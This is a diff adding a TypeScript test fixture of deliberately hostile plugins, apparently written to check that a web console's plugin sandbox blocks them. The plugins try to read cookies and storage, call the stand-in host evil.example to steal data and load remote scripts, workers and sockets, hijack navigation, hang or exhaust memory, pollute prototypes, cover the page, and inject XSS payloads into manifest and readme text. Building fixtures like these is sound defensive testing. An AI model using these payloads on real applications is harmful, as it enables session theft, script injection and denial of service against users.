@@ -1,0 +1,151 @@
+import type { HostilePlugin } from './hostilePlugin.ts'
+
+/** Draws what each attempt came to, so that a test can read it. */
+const attempts = (parts: Record<string, string>): string => `
+  const [told, tell] = useState('…')
+  useEffect(() => {
+    const attempts = { ${Object.entries(parts)
+      .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
+      .join(', ')} }
+    Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
+      try { return name + ': got ' + String(await attempt()) }
+      catch (error) { return name + ': refused' }
+    })).then((lines) => tell(lines.join('; ')))
+  }, [])
+  return h('output', null, told)`
+
+export const COOKIES: HostilePlugin = {
+  name: 'cookies',
+  draw: attempts({
+    cookies: 'return document.cookie',
+    storage: 'return localStorage.length',
+    session: 'return sessionStorage.length',
+    database: 'return indexedDB.open("x").then((x) => x)',
+    parent: 'return window.parent.document.title',
+    kept: 'return window.top.localStorage.length',
+  }).replace(
+    'indexedDB.open("x").then((x) => x)',
+    'new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = () => yes("db"); r.onerror = no })',
+  ),
+}
+
+/** Calls where the console is, to a host that the test watches, and past the policy by other ways. */
+export const NETWORK: HostilePlugin = {
+  name: 'network',
+  draw: attempts({
+    call: 'return (await fetch("/v2/users/me")).status',
+    elsewhere: 'return (await fetch("http://evil.example/steal")).status',
+    picture:
+      'return new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("seen"); image.onerror = no; image.src = "http://evil.example/picture.png" })',
+    script:
+      'return new Promise((yes, no) => { const script = document.createElement("script"); script.onload = () => yes("run"); script.onerror = no; script.src = "http://evil.example/a.js"; document.head.append(script) })',
+    socket:
+      'return new Promise((yes, no) => { const socket = new WebSocket("ws://evil.example/"); socket.onopen = () => yes("open"); socket.onerror = no })',
+    peers: 'return new RTCPeerConnection().connectionState',
+    code: 'return (0, eval)("1 + 1")',
+    worker: 'return new Worker("http://evil.example/w.js") && "made"',
+  }),
+}
+
+export const REDIRECTS: HostilePlugin = {
+  name: 'redirects',
+  draw: attempts({
+    top: 'window.top.location.href = "http://evil.example/"; return "left"',
+    opens: 'return window.open("http://evil.example/") === null ? Promise.reject() : "opened"',
+  }),
+}
+
+/** Goes to another page within its own frame. */
+export const LEAVES: HostilePlugin = {
+  name: 'leaves',
+  draw: `useEffect(() => { window.location.href = 'about:blank' }, [])
+  return h('output', null, 'leaving')`,
+}
+
+/** Hangs while it draws for the first time. */
+export const LOOPS: HostilePlugin = {
+  name: 'loops',
+  draw: `for (;;) Math.random()`,
+}
+
+export const ALLOCATES: HostilePlugin = {
+  name: 'allocates',
+  draw: `const all = []; for (;;) all.push(new Float64Array(2_000_000).fill(1))`,
+}
+
+export const THROWS_AT_LOAD: HostilePlugin = {
+  name: 'throws-at-load',
+  atLoad: `throw new Error('no load')`,
+  draw: `return null`,
+}
+
+export const THROWS_AT_RENDER: HostilePlugin = {
+  name: 'throws-at-render',
+  draw: `throw new Error('no render')`,
+}
+
+/** Draws well, and throws when it is taken away. */
+export const THROWS_AT_UNMOUNT: HostilePlugin = {
+  name: 'throws-at-unmount',
+  draw: `useEffect(() => () => { throw new Error('no unmount') }, [])
+  return h('output', null, 'drawn')`,
+}
+
+/** Uses what it may do as fast as it can. */
+export const FLOODS: HostilePlugin = {
+  name: 'floods',
+  manifest: { capabilities: ['hover-time', 'navigate'] },
+  draw: `useEffect(() => {
+    const timer = setInterval(() => {
+      for (let i = 0; i < 500; i += 1) {
+        props.actions.setViewState({ i })
+        props.actions.navigate({ to: 'flood' + i })
+      }
+    }, 20)
+    return () => clearInterval(timer)
+  }, [])
+  return h('output', null, 'flooding')`,
+}
+
+export const POLLUTES: HostilePlugin = {
+  name: 'pollutes',
+  draw: `Object.prototype.polluted = 'yes'
+  Array.prototype.map = () => ['nothing']
+  return h('output', null, 'polluted ' + String({}.polluted))`,
+}
+
+export const OVERLAYS: HostilePlugin = {
+  name: 'overlays',
+  draw: `useEffect(() => {
+    const cover = document.createElement('div')
+    cover.id = 'cover'
+    cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:red'
+    document.body.append(cover)
+  }, [])
+  return h('output', null, 'covered')`,
+}
+
+const SCRIPT = '<img src=x onerror="window.wasRun=1"><svg onload="window.wasRun=1"></svg>'
+
+/** Script in every text that it may write. */
+export const WRITES_SCRIPT: HostilePlugin = {
+  name: 'writes-script',
+  manifest: {
+    title: { en: `Widget ${SCRIPT}`, es: SCRIPT },
+    description: { en: SCRIPT, es: SCRIPT },
+  },
+  readme: `# Read me ${SCRIPT}\n\n<script>window.wasRun=1</script>\n\n[a link](javascript:window.wasRun=1)\n`,
+  draw: `useEffect(() => {
+    const place = document.createElement('div')
+    place.innerHTML = ${JSON.stringify(SCRIPT)}
+  }, [])
+  return h('output', null, ${JSON.stringify(SCRIPT)})`,
+}
+
+/** Asks for alerts, which its manifest does not name. */
+export const OVERREACHES: HostilePlugin = {
+  name: 'overreaches',
+  manifest: { data: ['status'] },
+  needs: `[{ kind: 'status' }, { kind: 'alerts', limit: 5 }]`,
+  draw: `return h('output', null, 'got ' + JSON.stringify(props.data.alerts))`,
+}
